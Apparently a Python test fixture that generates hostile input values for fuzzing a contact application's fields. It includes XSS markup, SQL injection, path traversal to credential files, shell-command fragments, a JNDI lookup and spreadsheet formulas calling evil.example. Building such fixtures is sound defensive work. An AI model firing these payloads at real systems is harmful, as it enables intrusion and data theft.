"""Values that somebody hostile types, by what they try; HIT in them is what must never be done."""

import unicodedata
from itertools import product

HIT = "window.hit=1"
_EVENTS = ("onerror", "onload", "onfocus autofocus tabindex=1 onfocusin", "ontoggle", "onanimationstart")
_ELEMENTS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "details open",
    "input",
    "iframe",
    "object data=x",
    "math",
    "a b",
)
_BREAKS = (
    *(
        '"',
        "'",
        "`",
        "-->",
        "]]>",
        "</title>",
        "</textarea>",
        "</script>",
        "</style>",
        "</noscript>",
        "&quot;",
        "\\",
        "*/",
    ),
    *('" ', "' ", "--!>", "</template>", "</select>", "<![CDATA["),
)
_CHUNKS = (f"<script>{HIT}</script>", f"<img src=x onerror={HIT}>")
_LOOSE = (
    *(f"<script src=data:,{HIT}></script>", f"<SCRIPT >{HIT}</SCRIPT >", f"<scr<script>ipt>{HIT}</script>"),
    *(
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<plaintext>",
        "<!--",
        "<?php",
    ),
    *(
        f"&lt;script&gt;{HIT}&lt;/script&gt;",
        f"&#60;script&#62;{HIT}&#60;/script&#62;",
        f"<svg/onload={HIT}//",
        "<x",
        "<>",
    ),
)
_RUNS = (
    f"javascript:{HIT}",
    f"data:text/html,<script>{HIT}</script>",
    f"vbscript:{HIT}",
    "file:///etc/passwd",
    "blob:x",
)
_DISGUISES = (
    *(
        "{}",
        " {}",
        "\t{}",
        "\n{}",
        "\x01{}",
        "{}//https://a.cz",
        "https://a.cz@{}",
        "https://{}",
        "//{}",
        "view-source:{}",
    ),
)
_BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
_UNSEEN = "\u00ad\u034f\u115f\u1160\u17b4\u180e\u200b\u200c\u200d\u2060\u2061\u2062\u2063\u2064\u3164\ufeff\ufff9\U000e0001\U000e0041"
_PLACES = ("{0}Jana", "Ja{0}na", "Jana{0}", "{0}", "{0}{0}J{0}")
_HALVES = (
    "\ud800",
    "\udbff",
    "\udc00",
    "\udfff",
    "\udc00\ud800",
    "\ufffe",
    "\uffff",
    "\U0001fffe",
    "\ue000",
    "\U0010ffff",
)
_NAMES = (
    "Dvořáková",
    "Žluťoučký kůň",
    "Ångström",
    "한국어",
    "Việt Nam",
    "عربى",
    "हिन्दी",
    "ﬁnále",
    "Ｊａｎａ",
    "Jаnа",
    "İıſß",
    "👩‍👧",
)
_LETTERS = ("a", "ř", "e\u0301", "😀", " ", "<", '"', "&", "=", "\u202e", "\ufdfa", "\u0489", "'", "\\", "%")
_FORMULAS = (
    *(
        "cmd|'/c calc'!A1",
        'HYPERLINK("http://evil.example","x")',
        "1+1",
        "SUM(A1:A9)",
        'WEBSERVICE("http://evil.example")',
    ),
    *("DDE(1)", "IMPORTXML(1)", "2"),
)
_STARTS = ("=", "+", "-", "@", "\t=", "\r=", "'=", '"=', "＝", "==")
_PATHS = (
    *(
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/etc/passwd",
        "C:\\x",
        "\\\\server\\share",
        "CON",
        "NUL.txt",
        ".",
    ),
    *(
        "..",
        "a/../../b",
        "....//",
        "%2e%2e%2f",
        "%252e%252e%252f",
        "..%c0%af",
        "~/.ssh/id_rsa",
        "file.txt\x00.pdf",
        "a|b",
    ),
    *(
        "a>b",
        "a:b",
        "a*b?",
        "-rf",
        "--help",
        "$HOME",
        "%USERPROFILE%",
        "aux.pdf",
        "fdp\u202egpj.exe",
        "a\u2044b",
        "a\u2215b",
    ),
    *(
        "x.pdf\u202e3pm.exe",
        "/proc/self/environ",
        " .htaccess",
        "a" * 255 + ".pdf",
        "name.",
        "name ",
        "con.",
        "a\nb.pdf",
    ),
)
_TEMPLATES = (
    *(
        "{{7*7}}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{0.__class__}",
        "{title}",
        "{count}",
        "{}",
        "{",
        "}",
        "%s%s%n",
        "%(x)s",
    ),
    *(
        "{% import os %}",
        "$(id)",
        "`id`",
        "; id",
        "| id",
        "&& id",
        "${jndi:ldap://evil.example/a}",
        "@{x}",
        "[[${x}]]",
        "{{",
    ),
    *("{{constructor.constructor('return 1')()}}", "__proto__", "constructor", "toString", "null", "undefined", "NaN"),
    *(
        "Infinity",
        "true",
        "1e999",
        "-0",
        "0x10",
        "[object Object]",
        "[]",
        "{}x",
        '{"a":1}',
        "\\u003cscript\\u003e",
        "\\x3c",
    ),
)
_QUERIES = (
    *(
        "' OR '1'='1",
        "'; DROP TABLE contact; --",
        '" OR ""="',
        "1; SELECT pg_sleep(9)",
        "' UNION SELECT 1 --",
        "%",
        "_",
        "\\",
    ),
    *(
        "%%%",
        "a%b_c",
        "NEAR(a b)",
        '"a" OR "b"',
        "a AND NOT b",
        "a*",
        "-a",
        "^a",
        "title:a",
        "(a",
        "a)",
        '"',
        "a:*",
        "a & b",
    ),
    *(
        "a | !b",
        "a <-> b",
        ".*",
        "(a+)+$",
        "[a-",
        "*)(uid=*",
        "\\p{L}",
        "' || 'x",
        "/**/",
        "a'b",
        "a''b",
        "$$x$$",
        "E'\\x'",
    ),
)
_HEADERS = (
    "Set-Cookie: crm=x",
    "Location: //evil.example",
    f"<script>{HIT}</script>",
    "BEGIN:VCARD",
    "END:VCARD",
    "FN:x",
    "bcc:x@y.cz",
)
_ENDS = ("\r\n", "\n", "\r", "%0d%0a", "\u2028", "\x85", "\v")

VALUES: dict[str, list[str]] = {
    "elements that act": [f"<{name} {event}={HIT}>" for name, event in product(_ELEMENTS, _EVENTS)],
    "markup that breaks out": [*(start + chunk for start, chunk in product(_BREAKS, _CHUNKS)), *_LOOSE],
    "addresses that run": [way.format(run) for run, way in product(_RUNS, _DISGUISES)],
    "text that turns around": [place.format(sign) for sign, place in product(_BIDI, _PLACES[:4])],
    "text that is not seen": [place.format(sign) for sign, place in product(_UNSEEN, _PLACES[:3])],
    "control characters": [f"Ja{chr(code)}na" for code in (*range(32), *range(0x7F, 0xA0))],
    "halves of a pair": [place.format(sign) for sign, place in product(_HALVES, _PLACES)],
    "letters of many kinds": [
        *(unicodedata.normalize(form, name) for form, name in product(("NFC", "NFD", "NFKC", "NFKD"), _NAMES)),
        "Z\u0351\u036b\u0343\u036a\u0302" * 9,
    ],
    "far too long": [letter * length for letter, length in product(_LETTERS, (129, 513, 10_001))],
    "formulas": [start + formula for start, formula in product(_STARTS, _FORMULAS)],
    "paths and names of files": list(_PATHS),
    "templates and commands": list(_TEMPLATES),
    "queries": list(_QUERIES),
    "lines of another protocol": [f"x{end}{line}" for end, line in product(_ENDS, _HEADERS)],
}
ALL = [value for group in VALUES.values() for value in group]
LEAST = 500  # values for a field of each type
PARTS = {  # by the type of a field, where the bare value is none: hidden in one that may be
    "phone": "601 234 567 {}",
    "email": "jana+{}@example.cz",
    "url": "https://example.cz/?q={}",
    "moment": "2026-11-24T17:52:10Z{}",
    "date": "2026-11-24{}",
    "time": "07:05{}",
}
